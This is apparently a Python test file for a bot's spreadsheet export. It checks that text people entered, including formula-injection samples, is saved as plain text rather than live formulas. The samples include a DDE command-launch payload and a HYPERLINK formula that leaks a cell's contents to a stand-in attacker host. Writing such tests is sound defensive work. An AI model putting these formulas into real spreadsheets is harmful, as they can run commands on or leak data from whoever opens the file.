"""results.xlsx: every row as the sheet had it, and nothing a person wrote turns into a
formula when someone opens it."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from bot.app.results import results_xlsx
from storage.records import Job, Priority, Status

HOSTILE = ["=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "+1+2", "-3+4", "@SUM(A1)", "\tleading tab", "\rleading CR", "＝1+1",
           "plain text", "bell\x07inside"]


def job(row: int, values: dict, error: str | None = None) -> Job:
    return Job(id=row, batch_id=1, row=row, workflow={"params": values}, status=Status.FAILED,
               priority=Priority.NORMAL, submitter="alice", affinity=None, attempts=1,
               not_before=0, lease_owner=None, cancel_requested=False, outputs=[],
               error=error, enqueued_at=0, started_at=None, finished_at=None)


def test_what_a_person_wrote_goes_out_as_text_never_as_a_formula():
    jobs = [job(i + 2, {"title": text, "steps": 8}, error=f"bad {text}")
            for i, text in enumerate(HOSTILE)]
    assert jobs[0].values["title"] == HOSTILE[0]  # (the record reads values this way)
    data = results_xlsx(jobs, ["title", "steps"])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    shown = [r[1].value for r in rows]
    # exactly what was written (XML reads a carriage return back as a line feed)
    assert shown[:-1] == [t.replace("\r", "\n") for t in HOSTILE[:-1]]
    assert shown[-1] == "bell\ufffdinside"  # (XML cannot hold a BEL)
    assert all(r[1].data_type == "s" for r in rows)
    assert [r[2].value for r in rows] == [8] * len(HOSTILE)  # numbers stay numbers
    assert all(r[1].quotePrefix for r in rows[:8])  # stays text when a person edits it
    assert [r[5].value for r in rows][:2] == [f"bad {t}" for t in HOSTILE[:2]]


def test_contact_sheet_labels_name_the_rows_key_value_and_row():
    from bot.app.results import label
    from executor.workflow import load_template
    from tests.conftest import ROOT
    template = load_template(ROOT / "templates" / "product_main.json")
    j = job(7, {"sku": "BTL-001", "product_image": "inputs/x.png", "prompt": "a bottle"})
    assert label(j, template) == "BTL-001 · row 7"
    assert label(j, template, "zh") == "BTL-001 · 第 7 行"
    assert label(job(3, {}), template) == "row 3"


def test_a_picture_is_shown_as_the_sheet_named_it_not_as_stored():
    j = job(2, {"image": "inputs/3f9a.png", "title": "A"})
    j.workflow["named"] = {"image": "assets/bottle.png"}
    sheet = load_workbook(io.BytesIO(results_xlsx([j], ["image", "title"]))).active
    assert [c.value for c in sheet[2]][1:3] == ["assets/bottle.png", "A"]
